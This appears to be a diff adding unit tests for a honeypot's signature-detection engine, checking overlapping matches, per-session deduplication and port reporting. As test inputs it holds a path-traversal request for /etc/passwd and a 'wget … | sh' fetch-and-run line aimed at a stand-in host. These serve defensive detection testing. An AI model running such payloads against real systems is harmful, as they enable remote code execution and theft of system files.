@@ -0,0 +1,49 @@
+import json
+import os
+import sys
+
+sys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', 'honeypot'))
+
+from signatures import DEFAULT_RULES, RuleSet, SignatureEngine  # noqa: E402
+
+RULES_PATH = os.path.join(os.path.dirname(__file__), '..', 'cfg', 'signatures.json')
+
+
+def scan(rules, *chunks):
+    hits = []
+    engine = SignatureEngine(RuleSet(rules), lambda session, port, rule: hits.append(rule.id), None, workers=1)
+    for chunk in chunks:
+        engine.scan(('127.0.0.1', 1), chunk)
+    engine.close()
+    return hits
+
+
+def shipped_rules():
+    with open(RULES_PATH) as rules_file:
+        return json.load(rules_file)['rules']
+
+
+def test_overlapping_matches_are_all_reported():
+    hits = scan(shipped_rules(), b'GET /../../../etc/passwd HTTP/1.1\r\n')
+    assert 'path-traversal' in hits
+    assert 'etc-passwd' in hits
+
+
+def test_match_inside_another_rule_is_reported():
+    hits = scan(shipped_rules(), b'wget http://x/bin/sh | sh')
+    assert 'bin-sh' in hits
+
+
+def test_each_rule_reported_once_per_session():
+    hits = scan(DEFAULT_RULES, b'/bin/sh /bin/sh', b' /bin/sh')
+    assert hits == ['bin-sh']
+
+
+def test_hit_carries_the_scanned_port():
+    hits = []
+    engine = SignatureEngine(RuleSet(DEFAULT_RULES), lambda session, port, rule: hits.append((port, rule.id)), None,
+                             workers=1)
+    engine.scan(('127.0.0.1', 1), b'/bin/sh', 21)
+    engine.end_session(('127.0.0.1', 1))
+    engine.close()
+    assert hits == [(21, 'bin-sh')]